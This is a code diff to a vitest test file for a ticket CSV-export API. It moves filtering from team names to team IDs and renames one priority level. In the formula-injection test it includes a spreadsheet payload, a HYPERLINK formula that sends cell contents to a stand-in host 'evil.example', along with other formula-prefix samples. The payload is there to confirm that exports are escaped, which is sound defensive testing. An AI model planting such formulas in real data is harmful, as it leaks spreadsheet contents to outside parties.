@@ -1,6 +1,7 @@
 import * as Auth from "@dotmac/core/auth";
 import { withActor } from "@dotmac/core/platform/context";
 import { createTransaction } from "@dotmac/core/platform/db";
+import * as Team from "@dotmac/core/team";
 import * as Ticket from "@dotmac/core/ticket";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { staffActor } from "../support/actors";
@@ -31,7 +32,16 @@ afterAll(() => t.close());
 
 type CreateInput = Parameters<typeof Ticket.create>[0];
 const open = async (input: Partial<CreateInput> & { title: string }) =>
-  (await withActor(admin, () => Ticket.create({ priority: "normal", ...input }))).ticket;
+  (await withActor(admin, () => Ticket.create({ priority: "medium", ...input }))).ticket;
+const teams = new Map<string, string>();
+/** The id of the team named `name`, created on first use (each test isolates its rows by team). */
+async function team(name: string): Promise<string> {
+  const known = teams.get(name);
+  if (known) return known;
+  const created = (await withActor(admin, () => Team.create({ name }))).id;
+  teams.set(name, created);
+  return created;
+}
 const download = (query: string, headers = auth) => api.request(`/api/v1/tickets/export.csv?${query}`, { headers });
 /** The CSV's lines without the empty string after the final CRLF. */
 const linesOf = async (res: Response) => (await res.text()).split("\r\n").slice(0, -1);
@@ -48,14 +58,14 @@ describe("GET /api/v1/tickets/export.csv", () => {
       channel: "phone",
       subscriberId,
       primaryAssigneeId: admin.properties.userId,
-      serviceTeam: "export-rows",
+      teamId: await team("export-rows"),
       region: "Lagos",
       tags: ["outage", "lekki"],
       dueAt: new Date("2026-12-01T09:00:00.000Z"),
     });
-    const bare = await open({ title: "Router reboot loop", serviceTeam: "export-rows" });
+    const bare = await open({ title: "Router reboot loop", teamId: await team("export-rows") });
 
-    const res = await download("serviceTeam=export-rows");
+    const res = await download(`teamId=${await team("export-rows")}`);
     expect(res.status).toBe(200);
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
     expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="tickets-\d{4}-\d{2}-\d{2}\.csv"$/);
@@ -63,33 +73,37 @@ describe("GET /api/v1/tickets/export.csv", () => {
     expect(await linesOf(res)).toEqual([
       HEADER,
       // Newest first, as the list orders them.
-      `${bare.number},Router reboot loop,new,normal,,,,,export-rows,,,${bare.createdAt},,,`,
+      `${bare.number},Router reboot loop,new,medium,,,,,export-rows,,,${bare.createdAt},,,`,
       `${full.number},"BTS down in Lekki, again",new,high,BTS Outage,phone,SUB-EXPORT-1,ops@example.com,` +
         `export-rows,Lagos,outage;lekki,${full.createdAt},2026-12-01T09:00:00.000Z,,`,
     ]);
   });
 
   it("applies the list's filters", async () => {
-    const urgent = await open({ title: "Fibre cut on the ring", priority: "urgent", serviceTeam: "export-filter" });
-    await open({ title: "Slow speeds", priority: "low", serviceTeam: "export-filter" });
-    await open({ title: "Fibre cut elsewhere", priority: "urgent", serviceTeam: "another-team" });
+    const urgent = await open({
+      title: "Fibre cut on the ring",
+      priority: "urgent",
+      teamId: await team("export-filter"),
+    });
+    await open({ title: "Slow speeds", priority: "low", teamId: await team("export-filter") });
+    await open({ title: "Fibre cut elsewhere", priority: "urgent", teamId: await team("another-team") });
 
-    const lines = await linesOf(await download("serviceTeam=export-filter&priority=urgent,high"));
+    const lines = await linesOf(await download(`teamId=${await team("export-filter")}&priority=urgent,high`));
     expect(lines).toHaveLength(2);
     expect(lines[1]?.startsWith(`${urgent.number},Fibre cut on the ring,`)).toBe(true);
 
-    const searched = await linesOf(await download("q=slow&serviceTeam=export-filter"));
+    const searched = await linesOf(await download(`q=slow&teamId=${await team("export-filter")}`));
     expect(searched.map((l) => l.split(",")[1])).toEqual(["title", "Slow speeds"]);
 
-    expect(await linesOf(await download("serviceTeam=export-filter&status=closed"))).toEqual([HEADER]);
+    expect(await linesOf(await download(`teamId=${await team("export-filter")}&status=closed`))).toEqual([HEADER]);
     expect((await download("priority=whenever")).status).toBe(400);
   });
 
   it("writes titles a spreadsheet would run as formulas as text", async () => {
     const titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1+1", "-2+3", "@SUM(A1:A9)"];
-    for (const title of titles) await open({ title, serviceTeam: "export-formula" });
+    for (const title of titles) await open({ title, teamId: await team("export-formula") });
 
-    const cells = (await linesOf(await download("serviceTeam=export-formula")))
+    const cells = (await linesOf(await download(`teamId=${await team("export-formula")}`)))
       .slice(1)
       .map((line) => line.slice(line.indexOf(",") + 1, line.indexOf(",new,")));
     expect(cells.sort()).toEqual(
@@ -100,19 +114,18 @@ describe("GET /api/v1/tickets/export.csv", () => {
   it("streams every ticket exactly once across several keyset pages", async () => {
     // One transaction: every ticket shares one created_at, so the pages turn on the id alone.
     const count = 403;
+    const bulkTeam = await team("export-bulk");
     const numbers = await withActor(admin, () =>
       createTransaction(async () => {
         const made: string[] = [];
         for (let i = 0; i < count; i++) {
-          made.push(
-            (await Ticket.create({ title: `Bulk ${i}`, priority: "normal", serviceTeam: "export-bulk" })).ticket.number,
-          );
+          made.push((await Ticket.create({ title: `Bulk ${i}`, priority: "medium", teamId: bulkTeam })).ticket.number);
         }
         return made;
       }),
     );
 
-    const res = await download("serviceTeam=export-bulk");
+    const res = await download(`teamId=${await team("export-bulk")}`);
     expect(res.status).toBe(200);
     const rows = (await linesOf(res)).slice(1);
     expect(rows).toHaveLength(count);
@@ -121,7 +134,7 @@ describe("GET /api/v1/tickets/export.csv", () => {
     expect([...exported].sort()).toEqual([...numbers].sort());
 
     // A slow reader (a server adapter, a client on a poor link) pulls later pages outside the actor's context.
-    const reader = (await withActor(admin, () => Ticket.exportCsv({ serviceTeam: "export-bulk" }))).getReader();
+    const reader = (await withActor(admin, () => Ticket.exportCsv({ teamId: bulkTeam }))).getReader();
     let chunks = 0;
     for (let next = await reader.read(); !next.done; next = await reader.read()) {
       chunks++;
